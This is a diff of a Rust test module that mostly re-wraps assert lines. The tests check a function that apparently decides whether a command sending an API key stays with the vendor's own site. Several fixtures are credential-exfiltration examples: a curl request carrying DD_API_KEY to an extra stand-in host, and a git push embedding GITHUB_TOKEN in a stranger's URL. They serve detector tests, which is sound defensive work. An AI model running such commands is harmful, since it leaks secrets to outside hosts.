@@ -232,10 +232,16 @@ mod tests {
     #[test]
     fn placeholders_and_aliases_of_the_vendor_site() {
         let sink = r#"curl -H "DD-API-KEY: $DD_API_KEY" "https://api.<DD_SITE>/api/v1/validate""#;
-        assert_eq!(own_site("DD_API_KEY", sink, sink).as_deref(), Some("DD_SITE"));
+        assert_eq!(
+            own_site("DD_API_KEY", sink, sink).as_deref(),
+            Some("DD_SITE")
+        );
         let content = "site=\"${DD_SITE:?set it}\"\ncurl -H \"DD-API-KEY: $DD_API_KEY\" \"https://api.${site}/v1\"\nsite=\"$DD_SITE\"\n";
         let sink = "curl -H \"DD-API-KEY: $DD_API_KEY\" \"https://api.${site}/v1\"";
-        assert_eq!(own_site("DD_API_KEY", sink, content).as_deref(), Some("DD_SITE"));
+        assert_eq!(
+            own_site("DD_API_KEY", sink, content).as_deref(),
+            Some("DD_SITE")
+        );
     }
 
     #[test]
@@ -255,7 +261,8 @@ mod tests {
         let sink = "curl -H \"X: $DD_API_KEY\" \"https://${site}/v1\"";
         assert_eq!(own_site("DD_API_KEY", sink, content), None);
         // A second URL of the request goes to a stranger.
-        let sink = "curl -H \"X: $DD_API_KEY\" \"https://api.<DD_SITE>/v1\" https://relay.example/x";
+        let sink =
+            "curl -H \"X: $DD_API_KEY\" \"https://api.<DD_SITE>/v1\" https://relay.example/x";
         assert_eq!(own_site("DD_API_KEY", sink, sink), None);
         // The key in the userinfo of a push URL to a stranger's host is no site variable.
         let sink = "git push --mirror \"https://${GITHUB_TOKEN}@git.mirror.example/x.git\"";
